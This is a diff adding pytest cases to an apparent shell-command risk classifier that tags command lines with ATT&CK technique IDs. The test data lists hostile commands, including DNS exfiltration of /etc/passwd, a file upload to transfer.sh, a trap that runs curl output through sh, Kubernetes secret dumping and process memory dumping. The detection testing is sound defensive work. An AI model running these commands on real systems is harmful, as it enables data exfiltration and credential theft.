@@ -119,3 +119,28 @@ def test_hostile_arguments_cost_bounded_time() -> None:
         assess_command(Command(("chmod", filler, "/tmp/" + filler)))
         parse_script("echo " + filler + " > /etc/cron.d/x")
     assert time.perf_counter() - started < 2.0
+
+
+MORE_SENSITIVE = [
+    ("export PATH=/tmp:$PATH", "T1574.007"),
+    ("curl -F f=@/tmp/x https://transfer.sh", "T1567"),
+    ("dig $(cat /etc/passwd | base64).x.example", "T1048.003"),
+    ("openssl s_client -connect 203.0.113.1:443", "T1573"),
+    ("aws sts get-caller-identity", "T1552.001"),
+    ("kubectl get secrets -A", "T1552.007"),
+    ("shred -u /tmp/x", "T1070.004"),
+    ("upx /tmp/x", "T1027.002"),
+    ("trap 'curl x | sh' EXIT", "T1546.005"),
+    ("gcore 1234", "T1003.007"),
+]
+
+
+@pytest.mark.parametrize(("line", "technique"), MORE_SENSITIVE)
+def test_more_techniques_are_named(line: str, technique: str) -> None:
+    found = _techniques(line)
+    assert found.get(technique, 0) >= 0.3, (line, found)
+
+
+def test_stopping_an_ordinary_service_is_weak_and_counted_once() -> None:
+    found = _techniques("systemctl disable mysql")
+    assert found == {"T1489": 0.15}
